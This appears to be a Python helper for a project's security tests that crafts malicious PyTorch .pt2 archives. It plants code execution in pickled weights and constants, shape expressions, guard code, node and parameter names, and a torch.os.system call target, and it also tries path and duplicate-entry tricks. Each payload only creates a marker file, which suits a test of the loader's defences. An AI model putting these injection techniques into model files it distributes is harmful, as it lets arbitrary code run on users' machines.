"""Crafted `.pt2` archives for the security tests: each plants code in one door of
``torch.export.load`` (or of the ``.module()`` call that follows). Every payload only creates
a marker file, so a test can tell whether it ran.

Shared by tests/test_security.py; not a test module itself.
"""

from __future__ import annotations

import io
import json
import pickle
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch


class _Opens:
    """Unpickling this calls ``open(marker, "w")``: the file appears iff the pickle ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (self.marker, "w"))


def evil_pickle(marker: Path) -> bytes:
    """A raw pickle (what ``pickle.loads`` reads)."""
    return pickle.dumps(_Opens(marker), protocol=2)


def evil_torch_save(marker: Path) -> bytes:
    """A ``torch.save`` zip whose data.pkl runs code (what ``torch.load`` reads)."""
    buf = io.BytesIO()
    torch.save({"x": _Opens(marker)}, buf)
    return buf.getvalue()


Entries = dict[str, bytes]


def read_archive(path: Path) -> tuple[str, Entries]:
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        prefix = names[0].split("/", 1)[0] + "/"
        return prefix, {n[len(prefix) :]: zf.read(n) for n in names}


def write_archive(
    path: Path, prefix: str, entries: Entries, extra: list[tuple[str, bytes]] = ()
) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for rel, blob in entries.items():
            zf.writestr(prefix + rel, blob)
        for name, blob in extra:
            zf.writestr(name, blob)


def _model_json(entries: Entries) -> dict:
    return json.loads(entries["models/model.json"])


def _set_model_json(entries: Entries, obj: dict) -> None:
    entries["models/model.json"] = json.dumps(obj).encode()


def _replace_in_json(entries: Entries, old: str, new: str) -> None:
    """Rename a string everywhere it is a whole JSON string, in every JSON entry."""
    for rel in list(entries):
        if rel.endswith(".json"):
            entries[rel] = entries[rel].replace(json.dumps(old).encode(), json.dumps(new).encode())


# -- the attacks: each edits the entries of a good archive in place ---------------------------
def sample_inputs(e: Entries, m: Path) -> None:
    e["data/sample_inputs/model.pt"] = evil_torch_save(m)


def pickled_weight(e: Entries, m: Path) -> None:
    cfg = json.loads(e["data/weights/model_weights_config.json"])
    fqn = next(iter(cfg["config"]))
    cfg["config"][fqn]["use_pickle"] = True
    e["data/weights/model_weights_config.json"] = json.dumps(cfg).encode()
    e["data/weights/" + cfg["config"][fqn]["path_name"]] = evil_torch_save(m)


def _constant(e: Entries, path_name: str, blob: bytes, use_pickle: bool) -> None:
    cfg = {"config": {"c0": {"path_name": path_name, "is_param": False, "use_pickle": use_pickle,
                             "tensor_meta": None}}}  # fmt: skip
    e["data/constants/model_constants_config.json"] = json.dumps(cfg).encode()
    e["data/constants/" + path_name] = blob


def pickled_constant(e: Entries, m: Path) -> None:
    _constant(e, "tensor_0", evil_torch_save(m), True)


def opaque_constant(e: Entries, m: Path) -> None:
    _constant(e, "opaque_obj_0", evil_pickle(m), True)


def custom_object(e: Entries, m: Path) -> None:
    _constant(e, "custom_obj_0", evil_pickle(m), True)


def legacy_weights(e: Entries, m: Path) -> None:
    e["data/weights/model.pt"] = evil_torch_save(m)


def legacy_constants(e: Entries, m: Path) -> None:
    e["data/constants/model.pt"] = evil_torch_save(m)


def raw_pickle_weights(e: Entries, m: Path) -> None:
    """A legacy-format (non-zip) payload: torch would hand it to the full unpickler."""
    e["data/weights/model.pt"] = evil_pickle(m)


def shape_expression(e: Entries, m: Path) -> None:
    """sympy.sympify evals the symbolic-shape strings of the program JSON."""
    text = e["models/model.json"].decode()
    start = text.index('"expr_str": "') + len('"expr_str": "')
    end = text.index('"', start)
    e["models/model.json"] = (text[:start] + f"open('{m}', 'w')" + text[end:]).encode()


def guard_code(e: Entries, m: Path) -> None:
    """Guard strings become Python source exec'd by ExportedProgram.module()."""
    obj = _model_json(e)
    obj["guards_code"] = [f"open('{m}', 'w') is not None"]
    _set_model_json(e, obj)


def node_name(e: Entries, m: Path) -> None:
    """Input names are pasted into generated `def forward(self, <name>)` source."""
    _replace_in_json(e, "x", f"x=open('{m}', 'w')")


def parameter_name(e: Entries, m: Path) -> None:
    """Parameter names are pasted into generated `getattr(self, "<part>")` source."""
    obj = _model_json(e)
    fqn = obj["graph_module"]["signature"]["input_specs"][0]["parameter"]["parameter_name"]
    head, _, tail = fqn.rpartition(".")
    _replace_in_json(e, fqn, f'{head}.{tail}"), open("{m}", "w"), getattr(self, "{tail}')


def call_target(e: Entries, m: Path) -> None:
    """Call targets resolve by getattr on torch: torch.os.system is reachable."""
    obj = _model_json(e)
    obj["graph_module"]["graph"]["nodes"][0]["target"] = "torch.os.system"
    _set_model_json(e, obj)


def absolute_weight_path(e: Entries, m: Path) -> None:
    """torch joins a config's path_name with os.path.join: an absolute one names another
    record than the weights folder's."""
    cfg = json.loads(e["data/weights/model_weights_config.json"])
    fqn = next(iter(cfg["config"]))
    cfg["config"][fqn].update(path_name="/w", use_pickle=True)
    e["data/weights/model_weights_config.json"] = json.dumps(cfg).encode()
    e["/w"] = evil_torch_save(m)


def program_without_json_suffix(e: Entries, m: Path) -> None:
    """torch loads every record under models/ as a program, whatever its name ends with
    (it cuts five characters as ".json"): a second program named models/evil_json."""
    e["data/sample_inputs/evil.pt"] = e["data/sample_inputs/model.pt"]
    e["data/weights/evil_weights_config.json"] = e["data/weights/model_weights_config.json"]
    e["data/constants/evil_constants_config.json"] = e["data/constants/model_constants_config.json"]
    second = dict(e)
    shape_expression(second, m)
    e["models/evil_json"] = second["models/model.json"]


def compiled_code(e: Entries, m: Path) -> None:
    e["data/aotinductor/model/model.so"] = b"\x7fELF not really"


ATTACKS: dict[str, Callable[[Entries, Path], None]] = {
    f.__name__: f
    for f in (
        sample_inputs,
        pickled_weight,
        pickled_constant,
        opaque_constant,
        custom_object,
        legacy_weights,
        legacy_constants,
        raw_pickle_weights,
        shape_expression,
        guard_code,
        node_name,
        parameter_name,
        call_target,
        absolute_weight_path,
        program_without_json_suffix,
        compiled_code,
    )
}


def craft(good: Path, out: Path, attack: str, marker: Path) -> Path:
    """Write ``out``: the archive ``good`` with one attack planted."""
    prefix, entries = read_archive(good)
    ATTACKS[attack](entries, marker)
    write_archive(out, prefix, entries)
    return out


def craft_whole_file(out: Path, kind: str, marker: Path) -> Path:
    """Attacks on the file as a whole: a pickle, or a torch.save zip, named `.pt2`."""
    if kind == "plain_pickle":
        out.write_bytes(evil_pickle(marker))
    elif kind == "torch_save":
        out.write_bytes(evil_torch_save(marker))
    else:
        raise ValueError(kind)
    return out


def craft_duplicate(good: Path, out: Path, marker: Path) -> Path:
    """A second entry with the same name: zip readers disagree on which one is read."""
    prefix, entries = read_archive(good)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name", the point
        write_archive(out, prefix, entries, extra=[(prefix + "data/sample_inputs/model.pt",
                                                   evil_torch_save(marker))])  # fmt: skip
    return out


def fails_at_run_time(good: Path, out: Path) -> Path:
    """Not an attack: a program that loads but raises when run (relu swapped for cholesky,
    which refuses the non-square activations)."""
    prefix, entries = read_archive(good)
    model = entries["models/model.json"]
    entries["models/model.json"] = model.replace(
        b'"torch.ops.aten.relu.default"', b'"torch.ops.aten.cholesky.default"'
    )
    write_archive(out, prefix, entries)
    return out
